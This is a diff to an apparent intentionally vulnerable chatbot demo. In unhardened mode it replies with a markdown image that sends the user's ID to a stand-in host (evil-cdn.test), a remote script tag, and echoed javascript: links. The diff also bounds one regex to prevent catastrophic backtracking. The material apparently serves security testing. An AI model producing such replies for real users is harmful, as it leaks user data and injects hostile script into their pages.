@@ -124,8 +124,10 @@ def answer(message: str, user_id: str, orders: dict[str, Order], *, hardened: bo
         return BotReply("Here it is: ![latte](https://img.evil-cdn.test/latte.png?c=" + user_id + ")")
     if re.search(r"\b(html|widget|embed|script)\b", message, re.I) and not hardened:
         return BotReply("Paste this: <script src=\"https://widgets.evil-cdn.test/chat.js\"></script>")
-    if re.search(r"\[[^\]]+\]\((?:https?|javascript):", message) and not hardened:
-        return BotReply("Sure: " + re.search(r"\[[^\]]+\]\([^)]+\)", message).group(0))  # type: ignore[union-attr]
+    # link text bounded: the demo's one deliberate freeze is the email check; this must stay linear
+    link = re.search(r"\[[^\]\[]{1,200}\]\((?:https?|javascript):[^)]{0,500}\)", message)
+    if link and not hardened:
+        return BotReply("Sure: " + link.group(0))
     words_ask = re.search(r"\b(\d{1,3}(?:,\d{3})+|\d{3,6}) words\b", message, re.I)
     if words_ask:
         words = int(words_ask.group(1).replace(",", ""))
